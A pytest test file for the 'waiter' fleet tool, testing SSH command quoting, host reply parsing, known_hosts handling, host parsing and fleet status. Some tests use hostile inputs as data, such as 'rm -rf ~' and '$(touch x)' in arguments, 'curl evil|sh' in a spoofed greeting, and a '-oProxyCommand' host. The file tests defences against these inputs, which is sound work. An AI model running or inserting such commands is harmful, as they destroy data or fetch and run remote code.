"""What the fleet says and understands, without a network: commands, replies, known_hosts, zipapps, fleet status."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import threading
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from types import SimpleNamespace

import pytest

from waiter.errors import UsageError
from waiter.fleet import fetch, protocol, replies, status, tables, zipapp
from waiter.fleet.doctor import findings_of
from waiter.fleet.inventory import Host, HostSelection, parsed_host, select_hosts, with_unique_names
from waiter.fleet.problems import Finding, HostError, Problem, fix
from waiter.fleet.protocol import HostSettings
from waiter.fleet.runner import Report, spread
from waiter.fleet.ssh import config as ssh_config
from waiter.fleet.ssh import known_hosts
from waiter.orders import Shift, Vitals

ANNA = Host("anna", "10.0.0.1")
AT_EC2 = Host("web", "192.0.2.1", dns="ip-10-0-0-1.eu-west-1.compute.internal")


# Commands and replies.


def said_by_a_host(command: str, home: Path, stdin: str = "") -> str:
    """What the command line prints where HOME is that folder."""
    env = {"PATH": os.environ["PATH"], "HOME": str(home)}
    done = subprocess.run(["sh", "-c", command], env=env, input=stdin, capture_output=True, text=True, check=True)
    return done.stdout


def test_words_reach_the_host_as_they_are(tmp_path: Path) -> None:
    (tmp_path / ".waiter").mkdir(mode=0o700)
    (tmp_path / ".waiter/echo.pyz").write_text(
        "import sys; print('waiter-reply ' + __import__('json').dumps(sys.argv[1:]))"
    )
    words = ["a b", "$(touch x)", "'; rm -rf ~; '", '"', "\\", "*", "", "ü\n"]

    said = said_by_a_host(protocol.host_command("echo.pyz", words), tmp_path)

    assert json.loads(said.removeprefix(protocol.REPLY_MARK)) == words
    assert sorted(file.name for file in tmp_path.iterdir()) == [".waiter"]


def test_no_login_shell_reads_more_into_a_command_than_sh_does() -> None:
    """csh knows newlines and `!` even in quotes, fish backslashes."""
    said = protocol.host_command(
        "waiter-1.pyz", ["stop", "a\nb\\c!d"], uploaded=[protocol.UploadedFile("a\\b", "c!d", "e\nf")]
    )

    assert set("\n!\\").isdisjoint(said)


def test_a_host_names_what_must_be_sent_and_makes_its_folder_private(tmp_path: Path) -> None:
    said = said_by_a_host(protocol.host_command("waiter-1.pyz", ["look"], needs=["bundles/2"]), tmp_path)

    reply = protocol.read_reply(said.encode(), b"", 0)
    assert reply["missing"] == ["waiter-1.pyz", "bundles/2"]
    assert oct((tmp_path / ".waiter").stat().st_mode) == oct(0o40700)


def test_any_version_will_do_where_that_is_enough(tmp_path: Path) -> None:
    (tmp_path / ".waiter").mkdir()
    (tmp_path / ".waiter/waiter-old.pyz").write_text('print(\'waiter-reply {"version": "old"}\')')

    said = said_by_a_host(protocol.host_command("waiter-new.pyz", ["look"], is_any=True), tmp_path)

    assert protocol.read_reply(said.encode(), b"", 0) == {"version": "old"}


def test_a_reply_is_found_among_the_greetings_of_a_shell() -> None:
    stdout = b'Welcome!\nwaiter-reply {"outcome": "running"}\nbye\n'

    assert protocol.read_reply(stdout, b"", 0) == {"outcome": "running"}


def test_a_refusal_is_the_last_line_of_what_a_host_said() -> None:
    with pytest.raises(HostError, match=r"^no reply: exit code 1: This account is not available\.$"):
        protocol.read_reply(b"Welcome!\nThis account is not available.\n", b"", 1)


@pytest.mark.parametrize(
    ("said", "problem"),
    [
        (b'Please login as the user "ubuntu" rather than the user "root".', Problem.WRONG_USER),
        (b"mkdir: No space left on device", Problem.DISK),
        (b"sh: syntax error", Problem.NO_REPLY),
        (b'waiter-reply {"trouble": "unsafe folder", "error": "a symlink"}', Problem.UNSAFE_FOLDER),
        (b'waiter-reply {"outcome": "failed", "error": "x", "error_type": "KitchenUnreachable"}', Problem.KITCHEN),
        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 28}', Problem.DISK),
        (b'waiter-reply {"outcome": "failed", "error": "x", "errno": 30}', Problem.NOT_WRITABLE),
        (b'waiter-reply {"outcome": "not started", "error": "x"}', Problem.NOT_STARTED),
        (b'waiter-reply {"outcome": "failed", "error": "x"}', Problem.FAILED),
        (b"waiter-reply {", Problem.UNEXPECTED),
    ],
)
def test_what_went_wrong_on_a_host_has_a_name(said: bytes, problem: Problem) -> None:
    with pytest.raises(HostError) as caught:
        protocol.read_reply(said, b"", 1)

    assert caught.value.problem is problem


@pytest.mark.parametrize(
    "said",
    [
        "[]",
        "7",
        "{}}",
        "[" * 100_000,
        '{"outcome": {}}',
        '{"outcome": "fetched"}',
        '{"outcome": "running", "words": [1, 2]}',
        '{"outcome": "running", "words": "abc"}',
        '{"outcome": "running", "since": "x"}',
        '{"outcome": "running", "since": NaN}',
        '{"outcome": "running", "pid": 1e400}',
        '{"outcome": "running", "pid": [1]}',
        '{"outcome": "running", "host": ["anna"]}',
        '{"outcome": "running", "shift": {}}',
        '{"outcome": "stopped", "left": {"delivered": {}}}',
        '{"outcome": "stopped", "left": [1]}',
        '{"outcome": "running", "kitchen": {"now": "soon"}}',
        '{"missing": "all", "home": "/"}',
        '{"trouble": "rm -rf /", "error": "x"}',
        '{"trouble": [], "error": "x"}',
        '{"outcome": "failed", "error": 7}',
        '{"outcome": "failed", "error": "x", "errno": "y"}',
    ],
)
def test_an_odd_reply_is_that_hosts_problem(said: str) -> None:
    with pytest.raises(HostError, match="makes no sense") as caught:
        protocol.read_reply(f"waiter-reply {said}\n".encode(), b"", 0)

    assert caught.value.problem is Problem.UNEXPECTED
    assert len(caught.value.detail) < 200


@pytest.mark.parametrize("outcome", sorted(replies.OUTCOMES))
@pytest.mark.parametrize("facts", [{}, {"left": {"delivered": 1}}, {"left": {}, "words": [], "extra": {"a": 1}}])
def test_a_reply_that_says_little_can_be_shown(outcome: str, facts: dict[str, object]) -> None:
    said = json.dumps({"outcome": outcome, "files": 7, **facts})
    report = Report(ANNA, outcome, protocol.read_reply(f"waiter-reply {said}".encode(), b"", 0))

    assert tables.fitted(*tables.report_cells([report]))[1][0][:2] == ["anna", outcome]
    assert tables.status_cells(status.fleet_status([report], [], now=100.0), 100.0)[1][0][0] == "anna"
    assert "extra" not in report.facts


def test_what_a_host_says_is_no_line_to_run_and_no_line_of_ours() -> None:
    greeting = 'Please login as the user "x; curl evil|sh" rather than the user "root".'
    assert protocol.no_reply(greeting, 1).problem is Problem.NO_REPLY
    right = protocol.no_reply('Please login as the user "ec2-user" rather than the user "root".', 1)
    assert right.fix == "--user ec2-user"
    left = {"left": {"error": "full\nhint: curl evil | sh"}, "words": ["a\nhint: x"]}
    report = Report(ANNA, "not running", left, (Finding(Problem.FAILED, "a\nhint: b", "waiter fleet logs"),))

    shown = [
        *tables.problem_lines([report]),
        *tables.status_notes([status.StatusRow("anna", "x", notes=("a\nhint: b",))]),
    ]

    assert "\n" not in "".join(shown)
    assert all("\n" not in cell for row in tables.fitted(*tables.report_cells([report]))[1] for cell in row)


class EndlessFolder:
    """SFTP of a host that never comes to the end of a folder."""

    def __init__(self, mode: int) -> None:
        self.mode = mode

    def stat(self, _path: bytes) -> SimpleNamespace:
        return SimpleNamespace(st_mode=stat.S_IFDIR)

    def names(self, _folder: str) -> Iterator[SimpleNamespace]:
        for number in count():
            yield SimpleNamespace(filename=f"{number}", st_mode=self.mode)


@pytest.mark.parametrize("limit", ["MOST_KEPT", "MOST_NAMES"])
def test_a_folder_that_never_ends_ends_the_fetch_of_that_host(monkeypatch: pytest.MonkeyPatch, limit: str) -> None:
    monkeypatch.setattr(fetch, limit, 10_000)

    for mode in (stat.S_IFDIR, stat.S_IFREG):
        with pytest.raises(HostError, match="more"):
            fetch.fitting(EndlessFolder(mode), "", "*", fetch.FetchCounters())
    with pytest.raises(HostError, match="more"):
        list(fetch.below(EndlessFolder(stat.S_IFDIR), "out", fetch.FetchCounters()))


def test_every_problem_has_a_line_that_fixes_it() -> None:
    assert all(fix(problem, ANNA) for problem in Problem)


def test_a_bug_on_one_host_does_not_hide_the_others() -> None:
    hosts = [Host(str(number), "") for number in range(20)]

    def act(host: Host) -> Report:
        if host.name == "7":
            raise ZeroDivisionError("seven")
        return Report(host, "fine")

    reports = {report.host.name: report for report in spread(hosts, act, parallel=4) if report}

    assert len(reports) == 20
    assert [name for name, report in reports.items() if not report.is_ok] == ["7"]
    assert "ZeroDivisionError: seven" in reports["7"].findings[0].detail


def test_no_more_hosts_are_visited_at_a_time_than_asked_for() -> None:
    busy, most, lock = 0, 0, threading.Lock()
    together = threading.Barrier(3, timeout=60)

    def act(host: Host) -> Report:
        nonlocal busy, most
        with lock:
            busy += 1
            most = max(most, busy)
        together.wait()
        with lock:
            busy -= 1
        return Report(host, "fine")

    assert len(list(filter(None, spread([Host(str(n), "") for n in range(12)], act, parallel=3)))) == 12
    assert most == 3


def test_doctor_names_a_disk_that_is_nearly_full_and_what_is_older() -> None:
    facts = {"outcome": "running", "disk_free": 100_000_000, "now": 50.0, "parcel": "old", "settings": "other"}

    found = findings_of(ANNA, facts, 49.0, 51.0, zipapp="new", settings=HostSettings((), {}, "db", bundle="mine"))

    assert [each.problem for each in found] == [Problem.DISK, Problem.OLD_WAITER, Problem.OLD_SCRIPT]
    assert [each.fix for each in found] == ["ssh 10.0.0.1 'df -h ~'", "waiter fleet restart", "waiter fleet restart"]


# known_hosts.


def test_known_hosts_is_read_as_openssh_reads_it(tmp_path: Path) -> None:
    key = "AAAAC3NzaC1lZDI1NTE5AAAAIA=="
    file = tmp_path / "known_hosts"
    file.write_text(
        f"# comment\n\nnonsense\n@cert-authority * ssh-ed25519 {key}\n"
        f"a,10.0.0.1 ssh-ed25519 {key} somebody\n[a]:2222 ssh-rsa {key}\n"
        f"*.example.com,!bad.example.com ssh-ed25519 {key}\n@revoked * ssh-dss {key}\n"
    )
    known = known_hosts.read([file, tmp_path / "missing"])

    def types(name: str) -> list[str]:
        return [key.key_type for key in known_hosts.keys_of(name, known) if not key.is_revoked]

    assert types("a") == types("10.0.0.1") == types("x.example.com") == ["ssh-ed25519"]
    assert types("[a]:2222") == ["ssh-rsa"]
    assert types("bad.example.com") == types("b") == types("[b]:2222") == []
    assert [key.key_type for key in known if key.is_revoked] == ["ssh-dss"]


def test_a_key_is_remembered_once_by_many_at_a_time_and_after_a_torn_line(tmp_path: Path) -> None:
    file = tmp_path / ".ssh/known_hosts"
    file.parent.mkdir()
    file.write_text("torn")
    remembering = [
        threading.Thread(target=known_hosts.remember, args=(file, f"host{number % 5}", "ssh-ed25519", b"key"))
        for number in range(20)
    ]
    for thread in remembering:
        thread.start()
    for thread in remembering:
        thread.join()

    lines = file.read_text().splitlines()
    assert sorted(line.split()[0] for line in lines) == [*(f"host{number}" for number in range(5)), "torn"]


# ~/.ssh/config.


def test_an_include_stays_in_the_block_that_it_stands_in(tmp_path: Path) -> None:
    import paramiko

    (tmp_path / "conf.d").mkdir()
    (tmp_path / "conf.d/a").write_text("Host a\n  User anna\n")
    (tmp_path / "conf.d/b").write_text("Host b\n  User ben\n")
    (tmp_path / "config").write_text("Include conf.d/*\nInclude nothing/here\nPort 2222\nHost *\n  User other\n")

    config = paramiko.SSHConfig.from_text("\n".join(ssh_config.lines_of(tmp_path / "config", tmp_path)))

    seen = [(config.lookup(name)["user"], config.lookup(name)["port"]) for name in ("a", "b", "c")]
    assert seen == [("anna", "2222"), ("ben", "2222"), ("other", "2222")]


# Hosts.


@pytest.mark.parametrize(
    ("word", "address", "user", "port"),
    [
        ("a", "a", None, None),
        ("u@a:22", "a", "u", 22),
        ("::1", "::1", None, None),
        ("[::1]:2222", "::1", None, 2222),
    ],
)
def test_hosts_are_written_as_for_ssh(word: str, address: str, user: str | None, port: int | None) -> None:
    host = parsed_host(word)

    assert (host.address, host.user, host.port) == (address, user, port)


@pytest.mark.parametrize(
    "word", ["-oProxyCommand=x", "u@-x", "a b", "@", "u@", "@a", "a:", "a:0", "a:65536", "[::1]x", "[a", "a,b"]
)
def test_what_is_no_host_is_refused(word: str) -> None:
    with pytest.raises(UsageError):
        parsed_host(word)


def test_a_hosts_file_has_comments_and_each_host_counts_once(tmp_path: Path) -> None:
    file = tmp_path / "hosts"
    file.write_text("b # the second\n\n# none\na\n")

    found = select_hosts(HostSelection(hosts=("a,c",), hosts_file=file, user="me"))

    assert [(host.name, host.user) for host in found] == [("a", "me"), ("b", "me"), ("c", "me")]


def test_a_line_of_a_hosts_file_that_is_no_host_is_named(tmp_path: Path) -> None:
    file = tmp_path / "hosts"
    file.write_text("\ufeffa\r\n# none\nb c\n")

    with pytest.raises(UsageError, match=f"^{file}, line 3: b c: not a host"):
        select_hosts(HostSelection(hosts_file=file))


def test_instances_of_one_name_are_told_apart() -> None:
    hosts = [Host("web", "1", instance_id="i-1"), Host("web", "2", instance_id="i-2"), Host("db", "3")]

    assert [host.name for host in with_unique_names(hosts)] == ["web/i-1", "web/i-2", "db"]


# What is sent.


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    work = tmp_path / "work"
    (work / "bin").mkdir(parents=True)
    for name in ("crunch.sh", "bin/inner.sh", "../outer.sh"):
        (work / name).write_text("#!/bin/sh\n")
        (work / name).chmod(0o755)
    monkeypatch.chdir(work)
    return work


@pytest.mark.parametrize(
    ("line", "words", "files"),
    [
        ("./crunch.sh --x 'a b'", ("./crunch.sh", "--x", "a b"), ["crunch.sh"]),
        ("bin/inner.sh", ("./bin/inner.sh",), ["bin/inner.sh"]),
        ("../outer.sh", ("./outer.sh",), ["outer.sh"]),
        ("/bin/true", ("/bin/true",), []),
        ("python3 -c 1", ("python3", "-c", "1"), []),
    ],
)
def test_a_script_goes_along_and_a_program_does_not(here: Path, line: str, words: tuple[str], files: list[str]) -> None:
    packed = zipapp.pack_command(line, shell=False)

    assert packed.words == words
    assert list(packed.bundle.files if packed.bundle else {}) == files


def test_a_shell_line_stays_one_line(here: Path) -> None:
    assert zipapp.pack_command("../outer.sh | wc -l", shell=True).words == ("./outer.sh | wc -l",)


@pytest.mark.parametrize("line", ["./missing.sh", "'", "", "./work.txt"])
def test_a_command_that_cannot_be_sent_is_refused_here(here: Path, line: str) -> None:
    (here / "work.txt").write_text("not executable")

    with pytest.raises(UsageError):
        zipapp.pack_command(line, shell=False)


def test_two_files_of_one_name_are_refused(here: Path) -> None:
    other = here.parent / "crunch.sh"
    other.write_text("")

    with pytest.raises(UsageError, match="rename one"):
        zipapp.pack_command("./crunch.sh", shell=False, files=[other])


def test_the_digest_follows_contents_names_and_modes_only(here: Path) -> None:
    def digest() -> str:
        bundle = zipapp.pack_command("./crunch.sh", shell=False).bundle
        assert bundle is not None
        return bundle.digest

    first = digest()
    (here / "crunch.sh").touch()
    assert digest() == first
    (here / "crunch.sh").write_text("#!/bin/sh\ntrue\n")
    assert digest() != first


# Who waits where.


def shift(token: str, host: str = "anna", **facts: float) -> Shift:
    times = {"since": 0.0, "lease_until": 160.0, "heartbeat_at": 99.0, **facts}
    return Shift(token=token, waiter=f"{host}/1", host=host, pid=1, vitals=Vitals(slots=4, busy=2), **times)  # type: ignore[arg-type]


def seen(outcome: str = "running", token: str | None = "t") -> Report:
    return Report(ANNA, outcome, {"host": "anna", "pid": 1, "since": 0.0, "shift": token, "waiter": "anna/1"})


@pytest.mark.parametrize(
    ("report", "shifts", "states", "note"),
    [
        (seen(), [shift("t")], ["running"], ""),
        (seen(), [], ["running"], "does not know it"),
        (seen(), [shift("t", lost_at=90.0)], ["lost"], "its lease expired"),
        (seen(), [shift("t", heartbeat_at=10.0)], ["running"], "90 s ago"),
        (seen("not running"), [shift("t")], ["not running", "gone"], "SSH sees no such process"),
        (seen(), [shift("t"), shift("u", "elsewhere")], ["running", "elsewhere"], ""),
        (
            Report(ANNA, "timeout", {}, (Finding(Problem.TIMEOUT, "silent", ""),)),
            [shift("t")],
            ["timeout"],
            "the kitchen heard from it 1 s ago",
        ),
        (
            Report(AT_EC2, "timeout", {}, (Finding(Problem.TIMEOUT, "silent", ""),)),
            [shift("t", "ip-10-0-0-1"), shift("u", "ip-10-0-0-2")],
            ["timeout", "elsewhere"],
            "the kitchen heard from it 1 s ago",
        ),
    ],
)
def test_status_says_where_ssh_and_the_kitchen_disagree(
    report: Report, shifts: list[Shift], states: list[str], note: str
) -> None:
    rows = status.fleet_status([report], shifts, now=100.0)

    assert [row.state for row in rows] == states
    notes = " ".join(word for row in rows for word in row.notes)
    assert note in notes if note else not notes


def test_without_a_kitchen_nothing_is_called_a_disagreement() -> None:
    (row,) = status.fleet_status([seen()], None, now=100.0)

    assert (row.state, row.notes, row.slots) == ("running", (), None)
